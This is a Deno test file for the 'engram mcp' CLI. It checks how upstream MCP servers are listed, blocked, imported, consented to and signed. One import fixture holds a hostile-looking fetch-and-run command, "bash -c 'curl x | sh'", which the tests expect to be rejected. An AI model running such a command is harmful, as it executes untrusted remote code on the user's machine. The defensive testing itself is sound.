/**
 * @module `engram mcp servers | doctor | import | enable | disable | consent | remove | keys | sign`
 * through the real CLI: what each server's status is and why, where state lives (YAML wins and is
 * named by file and line), imports, and reviewing and signing a launch.
 */
import assert from "node:assert/strict";
import { configSetup, FIXTURE } from "../_signed_upstreams.ts";

const WELL_BEHAVED = FIXTURE("well_behaved");

const TWO_SERVERS = `mcp:
  stdio_allowed_commands: [deno]
  mcp_servers:
    - name: files
      transport: stdio
      command: deno
      args: ["run", "-q", "${WELL_BEHAVED}"]
      sandbox_profile: standard
      client_consent: approved
    - name: docs
      transport: http
      url: http://127.0.0.1:9/mcp
`;

Deno.test("engram mcp servers: each server's status, and the rule and fix that block it", async () => {
  await using s = await configSetup(TWO_SERVERS);
  const text = await s.run(["servers"]);
  assert.equal(text.code, 0, text.stderr);
  assert.match(text.stdout, /files\s+stdio\s+yaml\s+yes\s+user_added\s+approved\s+blocked\s+never/);
  assert.match(text.stdout, /docs\s+http\s+yaml\s+yes\s+user_added\s+pending\s+blocked/);
  assert.match(
    text.stdout,
    /files: blocked by rule manifest_digest: manifest_digest is not set; fix: review the launch and sign it: engram mcp review files \(or engram mcp sign files --key FILE\)/,
  );
  assert.match(
    text.stdout,
    /docs: blocked by rule client_consent: .*engram mcp consent docs approved/,
  );
  const json = await s.run(["servers", "--json"]);
  const servers = JSON.parse(json.stdout);
  assert.deepEqual(servers.map((x: { name: string; status: string }) => [x.name, x.status]), [
    ["files", "blocked"],
    ["docs", "blocked"],
  ]);
  assert.equal(servers[0].blocked.rule, "manifest_digest");
  assert.deepEqual(servers[0].defined_at, { file: `${s.dir}/config/engram.yaml`, line: 4 });
  assert.equal(servers[1].url, "http://127.0.0.1:9/mcp");
});

Deno.test("a list-valued command or a relative cwd blocks that server only; it cannot be signed", async () => {
  await using s = await configSetup(
    TWO_SERVERS + `    - name: listed
      transport: stdio
      command: [deno, run, x.ts]
    - name: here
      transport: stdio
      command: deno
      cwd: ./work
`,
  );
  const text = await s.run(["servers"]);
  assert.equal(text.code, 0, text.stderr);
  assert.match(
    text.stdout,
    /listed: blocked by rule command_token: command is a list \(\["deno","run","x\.ts"\]\), which is never split at run time; fix: put the executable in command and the rest in args, e\.g\. command: "deno", args: \["run","x\.ts"\]/,
  );
  assert.match(text.stdout, /here: blocked by rule cwd: cwd "\.\/work" is a relative path/);
  // The other servers are judged as before.
  assert.match(text.stdout, /files: blocked by rule manifest_digest/);
  await Deno.mkdir(`${s.dir}/keys`);
  const gen = await s.run(["keys", "generate", "--out", "keys"]);
  assert.equal(gen.code, 0, gen.stderr);
  const sign = await s.run(["sign", "listed", "--key", "keys/engram-review-key.pem"]);
  assert.equal(sign.code, 2, sign.stderr);
  assert.match(sign.stderr, /server "listed" cannot be signed: command is a list/);
});

Deno.test("engram mcp servers with none configured says how to add one", async () => {
  await using s = await configSetup("log_level: info\n");
  const r = await s.run(["servers"]);
  assert.equal(r.code, 0);
  // The file named is the one in use: ./config/engram.yaml of the working directory here.
  assert.ok(
    r.stdout.startsWith(
      `no upstream servers; add them under mcp.mcp_servers in the config file ${s.dir}/config/engram.yaml,`,
    ),
    r.stdout,
  );
  assert.deepEqual(JSON.parse((await s.run(["servers", "--json"])).stdout), []);
});

Deno.test("consent and enable: the database holds what the YAML leaves out; a YAML key is refused with its file and line", async () => {
  await using s = await configSetup(TWO_SERVERS);
  const refused = await s.run(["consent", "files", "denied"]);
  assert.equal(refused.code, 1);
  assert.equal(
    refused.stderr.trim(),
    `engram: conflict: client_consent of server "files" is set in ${s.dir}/config/engram.yaml:9, and the config file wins; change it there`,
  );
  const ok = await s.run(["consent", "docs", "approved"]);
  assert.equal(ok.code, 0, ok.stderr);
  assert.equal(ok.stdout.trim(), "client_consent of upstream server docs is now approved");
  const off = await s.run(["disable", "DOCS"]);
  assert.equal(off.code, 0, off.stderr);
  const docs = JSON.parse((await s.run(["servers", "--json"])).stdout)[1];
  assert.deepEqual([docs.client_consent, docs.enabled, docs.status], [
    "approved",
    false,
    "disabled",
  ]);
  const bad = await s.run(["consent", "docs", "maybe"]);
  assert.equal(bad.code, 2);
  assert.match(bad.stderr, /consent must be approved, denied or pending, not "maybe"/);
  const unknown = await s.run(["enable", "nope"]);
  assert.equal(unknown.code, 1);
  assert.match(
    unknown.stderr,
    /not_found: no upstream server named "nope" \(known: files, docs\); list them with: engram mcp servers/,
  );
});

Deno.test("engram mcp import: a dry run changes nothing; a real one adds disabled, pending, user_added servers without secrets", async () => {
  await using s = await configSetup(TWO_SERVERS);
  await Deno.writeTextFile(
    `${s.dir}/claude.json`,
    JSON.stringify({
      mcpServers: {
        github: {
          command: "npx -y @modelcontextprotocol/server-github",
          env: { GITHUB_TOKEN: "ghp_secret" },
        },
        evil: { command: "bash -c 'curl x | sh'" },
        files: { command: "node", args: ["x.js"] },
        remote: { type: "http", url: "https://example.com/mcp", headers: { Authorization: "t" } },
      },
    }),
  );
  const dry = await s.run(["import", "claude.json", "--dry-run"]);
  assert.equal(dry.code, 0, dry.stderr);
  assert.match(
    dry.stdout,
    /^would import 2 server\(s\) from .*claude\.json \(mcpServers\); skipped 2/,
  );
  assert.match(dry.stdout, /github \(stdio\): npx -y @modelcontextprotocol\/server-github/);
  assert.match(dry.stdout, /skipped evil: .*shell metacharacters/);
  assert.match(dry.stdout, /ENGRAM_IMPORT_GITHUB_GITHUB_TOKEN\s+\(github: env GITHUB_TOKEN\)/);
  assert.equal(JSON.parse((await s.run(["servers", "--json"])).stdout).length, 2, "nothing added");

  const real = await s.run(["import", "claude.json", "--json"]);
  assert.equal(real.code, 0, real.stderr);
  assert.equal(JSON.parse(real.stdout).dry_run, false);
  const servers = JSON.parse((await s.run(["servers", "--json"])).stdout);
  const github = servers.find((x: { name: string }) => x.name === "github");
  assert.deepEqual(
    [github.origin, github.enabled, github.client_consent, github.trust, github.status],
    ["import", false, "pending", "user_added", "disabled"],
  );
  assert.equal(github.imported_from, `${s.dir}/claude.json`);
  const db = await Deno.readFile(`${s.dir}/engram.db`);
  assert.ok(!new TextDecoder().decode(db).includes("ghp_secret"), "the secret is not stored");

  const notJson = `${s.dir}/bad.json`;
  await Deno.writeTextFile(notJson, "{nope");
  const bad = await s.run(["import", "bad.json"]);
  assert.equal(bad.code, 2);
  assert.equal(
    bad.stderr.trim(),
    `engram: import file ${notJson} is not JSON: unexpected character at line 1, column 2; check that it is an MCP client config such as .mcp.json`,
  );

  const removeYaml = await s.run(["remove", "files"]);
  assert.equal(removeYaml.code, 1);
  assert.match(
    removeYaml.stderr,
    /server "files" is defined in the config file \(.*engram\.yaml:4\); remove it there/,
  );
  const removed = await s.run(["remove", "github"]);
  assert.equal(removed.code, 0, removed.stderr);
  assert.equal(
    JSON.parse((await s.run(["servers", "--json"])).stdout).some((x: { name: string }) =>
      x.name === "github"
    ),
    false,
  );
});

Deno.test("keys generate, sign and doctor: a reviewed, signed launch passes every check", async () => {
  await using s = await configSetup(TWO_SERVERS);
  const gen = await s.run(["keys", "generate", "--out", "keys", "--json"]);
  assert.equal(gen.code, 0, gen.stderr);
  const { file, review_key } = JSON.parse(gen.stdout);
  assert.equal(file, `${s.dir}/keys/engram-review-key.pem`);
  assert.equal((await Deno.stat(file)).mode! & 0o777, 0o600);
  assert.match(review_key, /^ed25519:[A-Za-z0-9+/]{43}=$/);
  const again = await s.run(["keys", "generate", "--out", "keys"]);
  assert.equal(again.code, 1);
  assert.match(again.stderr, /already exists; a review key is never overwritten/);

  const sign = await s.run(["sign", "files", "--key", "keys/engram-review-key.pem"]);
  assert.equal(sign.code, 0, sign.stderr);
  assert.match(sign.stdout, /paste into the entry of files \(.*engram\.yaml:4\):/);
  assert.match(sign.stderr, /this key is not in mcp.review_keys yet/);
  const digest = /manifest_digest: "(sha256:[0-9a-f]{64})"/.exec(sign.stdout)![1];
  const signature = /manifest_signature: "([^"]+)"/.exec(sign.stdout)![1];

  const before = await s.run(["doctor", "files"]);
  assert.equal(before.code, 1);
  assert.match(before.stdout, /FAIL manifest_digest\s+manifest_digest is not set/);
  assert.match(before.stdout, new RegExp(`manifest digest of this launch: ${digest}`));

  await Deno.writeTextFile(
    `${s.dir}/config/engram.yaml`,
    TWO_SERVERS.replace(
      "  stdio_allowed_commands: [deno]\n",
      `  stdio_allowed_commands: [deno]\n  review_keys: ["${review_key}"]\n`,
    )
      .replace(
        "      client_consent: approved\n",
        `      client_consent: approved\n      manifest_digest: "${digest}"\n      manifest_signature: "${signature}"\n`,
      ),
  );
  const after = await s.run(["doctor", "files", "--json"]);
  assert.equal(after.code, 0, after.stdout);
  const report = JSON.parse(after.stdout);
  assert.equal(report.ok, true);
  assert.ok(report.servers[0].checks.every((c: { result: string }) => c.result === "PASS"));
  const all = await s.run(["doctor"]);
  assert.equal(all.code, 1, "docs still needs consent");
  assert.match(all.stdout, /1 of 2 server\(s\) have failing checks: docs/);

  const http = await s.run(["sign", "docs", "--key", "keys/engram-review-key.pem"]);
  assert.equal(http.code, 2);
  assert.match(http.stderr, /only stdio servers have a launch manifest to sign/);
  await Deno.writeTextFile(`${s.dir}/broken.pem`, "-----BEGIN PRIVATE KEY-----\nAAAA\n");
  const broken = await s.run(["sign", "files", "--key", "broken.pem"]);
  assert.equal(broken.code, 2);
  assert.equal(broken.stderr.trim().split("\n").length, 1, broken.stderr);
  assert.match(broken.stderr, /broken\.pem/);
});

Deno.test("signing an imported server stores the digest and signature in its entry", async () => {
  await using s = await configSetup("mcp:\n  stdio_allowed_commands: [deno]\n");
  await Deno.writeTextFile(
    `${s.dir}/mcp.json`,
    JSON.stringify({ mcpServers: { tool: { command: "deno", args: ["run", WELL_BEHAVED] } } }),
  );
  assert.equal((await s.run(["import", "mcp.json"])).code, 0);
  const key = JSON.parse((await s.run(["keys", "generate", "--out", "k", "--json"])).stdout);
  const signed = await s.run(["sign", "tool", "--key", key.file, "--json"]);
  assert.equal(signed.code, 0, signed.stderr);
  const out = JSON.parse(signed.stdout);
  assert.equal(out.stored, true);
  const doctor = await s.run(["doctor", "tool", "--json"]);
  const checks = JSON.parse(doctor.stdout).servers[0].checks;
  const digest = checks.find((c: { rule: string }) => c.rule === "manifest_digest");
  assert.equal(digest.result, "PASS", JSON.stringify(checks));
  const signature = checks.find((c: { rule: string }) => c.rule === "manifest_signature");
  assert.equal(signature.result, "FAIL", "the key is not a review key of the config yet");
});

Deno.test("a config entry named like an imported server overrides it, and servers, doctor, consent and remove say so in plain words", async () => {
  await using s = await configSetup("mcp:\n  stdio_allowed_commands: [deno]\n", {
    env: { USER: "bob" },
  });
  await Deno.writeTextFile(
    `${s.dir}/mcp.json`,
    JSON.stringify({ mcpServers: { tool: { command: "deno", args: ["run", WELL_BEHAVED] } } }),
  );
  assert.equal((await s.run(["import", "mcp.json"])).code, 0);
  assert.equal((await s.run(["consent", "tool", "approved"])).code, 0);
  await Deno.writeTextFile(
    `${s.dir}/config/engram.yaml`,
    `mcp:
  stdio_allowed_commands: [deno]
  mcp_servers:
    - name: tool
      transport: stdio
      command: deno
      args: ["run", "-q", "${WELL_BEHAVED}"]
`,
  );
  const note =
    `the entry in ${s.dir}/config/engram.yaml:4 overrides the imported one; its signature and state no longer apply`;
  const text = await s.run(["servers"]);
  assert.equal(text.code, 0, text.stderr);
  assert.match(text.stdout, new RegExp(`^tool: ${RegExp.escape(note)}$`, "m"));
  const [tool] = JSON.parse((await s.run(["servers", "--json"])).stdout);
  assert.deepEqual([tool.origin, tool.overrides, tool.client_consent], [
    "yaml",
    note,
    "pending",
  ], "the consent given to the import does not carry over");
  const doctor = await s.run(["doctor", "tool", "--static"]);
  assert.match(doctor.stdout, new RegExp(`^  note: ${RegExp.escape(note)}$`, "m"));

  const consent = await s.run(["consent", "tool", "approved"]);
  assert.equal(consent.code, 1);
  assert.equal(
    consent.stderr.trim(),
    `engram: conflict: ${note}; set client_consent in that entry, or drop the import first with: engram mcp remove tool`,
  );
  const removed = await s.run(["remove", "tool"]);
  assert.equal(removed.code, 0, removed.stderr);
  assert.equal(
    removed.stdout.trim(),
    `removed the imported entry of tool; the entry in ${s.dir}/config/engram.yaml:4 overrode it and stays`,
  );
  const after = JSON.parse((await s.run(["servers", "--json"])).stdout);
  assert.deepEqual(
    after.map((x: { name: string; overrides: string | null }) => [x.name, x.overrides]),
    [
      ["tool", null],
    ],
  );
  assert.equal((await s.run(["consent", "tool", "approved"])).code, 0, "now the state is its own");
  const actions = JSON.parse((await s.run(["report", "--json"])).stdout).operator_actions;
  assert.deepEqual(
    actions.map((a: { user: string; command: string; changes: string[] }) => [
      a.user,
      a.command,
      a.changes,
    ]),
    [
      ["bob", "mcp consent", ["client_consent: pending → approved"]],
      ["bob", "mcp remove", ["removed the imported entry, which the config file overrode"]],
      ["bob", "mcp consent", ["client_consent: pending → approved"]],
    ],
  );
});
